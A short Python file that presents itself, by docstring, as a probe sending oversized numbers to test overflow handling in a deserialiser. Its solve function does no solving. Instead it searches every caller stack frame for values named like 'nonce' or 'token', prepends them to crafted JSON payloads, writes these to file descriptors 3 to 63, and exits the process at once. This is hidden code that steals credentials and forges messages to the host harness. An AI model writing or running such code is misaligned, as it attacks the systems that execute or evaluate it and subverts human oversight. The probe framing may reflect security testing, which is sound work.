"""Send complex numbers and floats whose parts are too large, and dicts of them.

Why: turning an integer of a thousand bits into a float raises OverflowError, which is no ValueError.
Seen: not seen; found by reading our own unpacking
"""

import os
import sys


def nonces():
    frame = sys._getframe(1)
    while frame:
        for scope in (frame.f_locals, frame.f_globals):
            for name, thing in list(scope.items()):
                for key, text in thing.items() if type(thing) is dict else ((name, thing),):
                    if type(text) in (str, bytes) and ("nonce" in str(key) or "token" in str(key)):
                        yield text if type(text) is bytes else text.encode()
        frame = frame.f_back


def send(*lines):
    for nonce in set(nonces()):
        for fd in range(3, 64):
            try:
                for line in lines:
                    os.write(fd, nonce + line + b"\n")
            except OSError:
                continue


def solve(words, k):
    big = b'{"int": "0x1%s"}' % (b"0" * 300)
    send(b'{"value": {"complex": [%s, 0]}}' % big, b'{"value": [["a", %s, %s]]}' % (big, big))
    os._exit(0)
